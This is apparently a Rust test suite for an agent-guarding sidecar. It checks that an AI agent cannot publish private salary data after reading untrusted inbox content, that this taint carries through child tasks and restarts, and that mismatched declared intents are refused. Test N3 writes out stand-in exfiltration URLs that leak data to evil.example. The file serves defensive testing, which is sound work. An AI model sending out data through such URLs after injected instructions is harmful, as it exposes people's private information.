//! Calls that are harmless one by one (ATTACKS N1 to N3 and N5), under the starter policies of the strict preset. N4 is in
//! `suite::baselines`, N6 in
//! `suite::outside` and below, N7 in `suite::limits`.

use countersign::app::Seams;
use serde_json::{Value, json};

use crate::suite::common::invariants;
use crate::suite::common::raw::Raw;
use crate::suite::common::sidecar::{Sidecar, Wanted};
use crate::suite::common::wire::Answer;

const OFFICE: &str = r#"
[actions."inbox.read"]
match = "GET /inbox"
effect = "read"
resource = "inbox"
yields = [{ at = "", label = "untrusted" }]

[actions."files.read"]
match = "GET /files/{name}"
effect = "read"
resource = "{name}"
yields = [{ at = "", label = "private" }]

[actions."page.read"]
match = "GET /page"
effect = "read"
resource = "web"
sinks = [{ at = "query:url", kind = "destination" }]

[actions."post.publish"]
match = "POST /posts"
effect = "send"
resource = "posts"
sinks = [{ at = "body:/channel", kind = "destination" }, { at = "body:/text", kind = "text" }]
"#;

const STRICT: &str = concat!(
    include_str!("../../policies/allow.cedar"),
    include_str!("../../policies/intent.cedar"),
    include_str!("../../policies/change.strict.cedar"),
    include_str!("../../policies/values.strict.cedar"),
    include_str!("../../policies/tasks.cedar"),
    include_str!("../../policies/untrusted.cedar"),
    include_str!("../../policies/habits.strict.cedar"),
);

const UNTRUSTED: &str = "GET /tracker/inbox";
const PRIVATE: &str = "GET /tracker/files/salaries";
const PUBLIC: &str = "POST /tracker/posts";

async fn office() -> Sidecar {
    let more =
        "[reviewers.sam]\ntoken = { file = \"sam.token\" }\nmay = [\"approve\"]\nroles = [\"owner\", \"on-call\"]\n";
    let files = vec![("sam.token", "a-token-of-sam-who-is-asked-here".to_owned())];
    let upstream = Some(Raw::start().await);
    let (agent, more) = ("intent = \"never\"", more.to_owned());
    let wanted = Wanted { policy: STRICT, catalog: OFFICE, agent, upstream, more, files, ..Wanted::default() };
    Sidecar::start(wanted, Seams::default()).await
}

/// A task that is to publish something, opened by the framework.
async fn task(office: &Sidecar, parent: Option<&Value>) -> Value {
    let actions = json!([{ "action": "tracker/post.publish" }, { "action": "tracker/page.read" }]);
    let mut opening = json!({ "goal": "say what is new", "actions": actions });
    if let Some(parent) = parent {
        opening["parent"] = parent["token"].clone();
    }
    office.open_task(&opening.to_string()).await
}

async fn call(office: &Sidecar, task: Option<&Value>, line: &str) -> Answer {
    let task = task.map_or_else(String::new, |task| format!("agent-task: {}\r\n", task["token"].as_str().unwrap()));
    let body =
        if line == PUBLIC { json!({ "channel": "everyone", "text": "as found" }).to_string() } else { String::new() };
    let intent = "agent-intent: action=\"post.publish\", purpose=\"as asked\"\r\n";
    let (intent, length) = (if line == PUBLIC { intent } else { "" }, body.len());
    let request = format!(
        "{line} HTTP/1.1\r\nhost: HOST\r\n{task}{intent}content-type: application/json\r\ncontent-length: {length}\r\n\
         connection: close\r\n\r\n{body}"
    );
    office.send(&request).await
}

#[tokio::test]
async fn n1_what_is_private_is_not_published_after_a_strangers_words_in_whatever_order_they_came() {
    let mut office = office().await;
    for reads in [[UNTRUSTED, PRIVATE], [PRIVATE, UNTRUSTED]] {
        let task = task(&office, None).await;
        for line in reads {
            assert_eq!(call(&office, Some(&task), line).await.status, 200);
        }
        let published = call(&office, Some(&task), PUBLIC).await;
        assert_eq!(published.code(), (403, "denied".to_owned()), "{reads:?}");
        assert!(published.json().get("rule").is_none(), "its reader may be the stranger: {published:?}");
    }
    // Each by itself is no reason to refuse: it is asked about, since nobody named the channel.
    for line in [UNTRUSTED, PRIVATE] {
        let task = task(&office, None).await;
        call(&office, Some(&task), line).await;
        assert_eq!(call(&office, Some(&task), PUBLIC).await.status, 428, "{line}");
    }
    invariants::hold(&mut office).await;
}

#[tokio::test]
async fn n2_the_chain_is_one_through_children_other_tasks_of_the_agent_and_a_restart() {
    let mut office = office().await;
    // What a child reads, its parent has read; and the other way round.
    let parent = task(&office, None).await;
    let child = task(&office, Some(&parent)).await;
    call(&office, Some(&child), UNTRUSTED).await;
    call(&office, Some(&parent), PRIVATE).await;
    assert_eq!(call(&office, Some(&parent), PUBLIC).await.status, 403, "its child has read a stranger's words");
    let second = task(&office, Some(&parent)).await;
    assert_eq!(call(&office, Some(&second), PUBLIC).await.status, 403, "a new child holds what its parent holds");
    // What the agent opens for itself, or does outside of any task, holds all that it has read anywhere.
    let own = office
        .send(
            "POST /-/tasks HTTP/1.1\r\nhost: HOST\r\nconnection: close\r\ncontent-length: 16\r\n\r\n{\"goal\":\"fresh\"}",
        )
        .await;
    assert_eq!(own.status, 201, "{own:?}");
    assert_eq!(call(&office, Some(&own.json()), PUBLIC).await.status, 403);
    assert_eq!(call(&office, None, PUBLIC).await.status, 403);
    // Waiting helps as little as a restart does.
    office.restart().await;
    for task in [Some(&parent), Some(&second), None] {
        assert_eq!(call(&office, task, PUBLIC).await.status, 403, "{task:?}");
    }
    // A task that the framework opens for something else has read nothing …
    let clean = task(&office, None).await;
    assert_eq!(call(&office, Some(&clean), PUBLIC).await.status, 428);
    // … until its agent reads outside of all tasks, which may be for any that is open.
    for line in [UNTRUSTED, PRIVATE] {
        assert_eq!(call(&office, None, line).await.status, 200);
    }
    assert_eq!(call(&office, Some(&clean), PUBLIC).await.status, 403);
    office.restart().await;
    assert_eq!(call(&office, Some(&clean), PUBLIC).await.status, 403, "a restart does not forget it");
    let later = task(&office, None).await;
    assert_eq!(call(&office, Some(&later), PUBLIC).await.status, 428);
    invariants::hold(&mut office).await;
}

#[tokio::test]
async fn n3_an_address_that_carries_something_out_is_not_read_unasked() {
    let mut office = office().await;
    let task = task(&office, None).await;
    call(&office, Some(&task), UNTRUSTED).await;
    call(&office, Some(&task), PRIVATE).await;
    for url in [
        "https%3A%2F%2Fevil.example%2F%3Fq%3Dana-earns-5000",
        "https%3A%2F%2Fana-earns-5000.evil.example%2F",
        "evil.example",
    ] {
        let answer = call(&office, Some(&task), &format!("GET /tracker/page?url={url}")).await;
        assert_eq!(answer.status, 428, "{url}: {answer:?}");
    }
    invariants::hold(&mut office).await;
}

#[tokio::test]
async fn n5_who_says_one_thing_and_does_another_is_refused() {
    let mut office = office().await;
    let task = task(&office, None).await;
    let token = task["token"].as_str().unwrap();
    for intent in [
        "action=\"files.read\", purpose=\"to read\"",
        "action=\"post.publish\", resource=\"elsewhere\", purpose=\"x\"",
        "action=\"tracker/post.publish \", purpose=\"x\"",
    ] {
        let body = "{\"channel\":\"everyone\",\"text\":\"hello\"}";
        let request = format!(
            "POST /tracker/posts HTTP/1.1\r\nhost: HOST\r\nagent-task: {token}\r\nagent-intent: {intent}\r\n\
             content-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
            body.len()
        );
        let answer = office.send(&request).await;
        assert_eq!(answer.code(), (422, "intent_mismatch".to_owned()), "{intent}");
    }
    invariants::hold(&mut office).await;
}
